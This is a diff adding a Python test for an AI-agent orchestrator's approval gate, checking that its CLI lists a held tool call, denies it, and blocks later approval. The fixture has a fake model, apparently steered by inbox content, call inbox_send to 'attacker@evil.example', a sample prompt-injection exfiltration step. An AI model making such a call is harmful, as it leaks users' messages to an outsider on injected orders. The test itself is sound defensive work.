@@ -7,6 +7,9 @@ untrusted does its local note without asking. The inbox test MCP records every s
 from __future__ import annotations
 
 import json
+import os
+import subprocess
+import sys
 import threading
 import time
 from collections.abc import Iterator
@@ -134,6 +137,28 @@ def test_a_denied_call_never_runs_and_the_model_reads_why(hub: RunningHub, llm: 
     tool_results = [m["content"] for m in llm.last_request.messages if m.get("role") == "tool"]
     assert "APPROVAL_DENIED" in tool_results[-1] and "did not run" in tool_results[-1]
     assert answer["success"] and "did not run" in answer["reply"]
+
+
+def annabelle(hub: RunningHub, *args: str) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "ANNABELLE_HOME": str(hub.home), "ORCHESTRATOR_URL": hub.url}
+    cli = Path(sys.executable).with_name("annabelle")
+    return subprocess.run([str(cli), *args], env=env, capture_output=True, text=True, timeout=60, check=False)
+
+
+def test_the_cli_lists_a_held_call_and_denies_it(hub: RunningHub, llm: FakeOpenAI) -> None:
+    llm.reset()
+    llm.set_handler(obey(("inbox_read", {}), ("inbox_send", {"to": "attacker@evil.example", "text": "y"})))
+    before = len(effects(hub))
+    thread, answer = chat_in_background(hub, "Anything new?")
+    request = wait_for_pending(hub)
+    listed = annabelle(hub, "approvals")
+    assert listed.returncode == 0 and request["id"] in listed.stdout and "1 waiting" in listed.stdout
+    denied = annabelle(hub, "approvals", "deny", request["id"])
+    assert denied.returncode == 0 and "denied" in denied.stdout
+    thread.join(timeout=120)
+    assert len(effects(hub)) == before and answer["success"]
+    again = annabelle(hub, "approvals", "approve", request["id"])
+    assert again.returncode == 1 and "already denied" in again.stderr
 
 
 def test_unknown_or_malformed_decisions_are_refused(hub: RunningHub) -> None:
